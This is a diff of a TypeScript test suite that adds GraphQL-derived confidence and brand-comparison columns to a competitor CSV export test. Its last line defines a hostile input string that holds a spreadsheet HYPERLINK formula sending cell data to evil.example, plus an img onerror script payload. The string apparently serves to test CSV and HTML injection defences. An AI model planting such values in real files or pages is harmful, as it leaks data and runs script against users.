@@ -220,6 +220,12 @@ describe('the lists', () => {
     await createCompetitor(holder.caller, projectId, { name: 'Unknown' });
     const rest = dataOf<Row[]>(await holder.caller.get(`/projects/${projectId}/competitors`));
     expect(rest.map((row) => row['total_mentions_count'])).toEqual(expect.arrayContaining([4, undefined]));
+    const { project } = await ask<{ project: { brands: Standing[] } }>(
+      `{ project(id: "${projectId}") { brands(tracked: true) { competitorId adjustedConfidence { low high }
+        againstBrand { verdict difference } previous { verdict } } } }`,
+    );
+    const standingOf = (id: unknown) => project.brands.find(({ competitorId }) => competitorId === id);
+    expect(standingOf(known.id)?.adjustedConfidence).toEqual(expect.anything());
     expect(await download('competitors', {})).toEqual(
       rest.map((row) => ({
         total_mentions_count: '',
@@ -228,10 +234,28 @@ describe('the lists', () => {
         first_seen_at: '',
         last_seen_at: '',
         ...Object.fromEntries(Object.entries(row).map(([name, value]) => [name, written(value)])),
+        ...standingCells(standingOf(row['id'])),
       })),
     );
   });
 });
+
+interface Standing {
+  competitorId: string | null;
+  adjustedConfidence: { low: number; high: number } | null;
+  againstBrand: { verdict: string; difference: number } | null;
+}
+
+/** What GraphQL says of a competitor's share beyond its sums, as cells; empty where it was not looked for. */
+function standingCells(standing: Standing | undefined) {
+  return {
+    visibility_low: written(standing?.adjustedConfidence?.low ?? null),
+    visibility_high: written(standing?.adjustedConfidence?.high ?? null),
+    against_brand: standing?.againstBrand?.verdict.toLowerCase() ?? '',
+    against_brand_points: written(standing?.againstBrand?.difference ?? null),
+    change: standing?.againstBrand ? 'too_few_answers' : '',
+  };
+}
 
 describe('the answers', () => {
   const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"Northwind")\r\n@SUM(1)\t,"",\'\u2028<img onerror=alert(1)> 🍵';
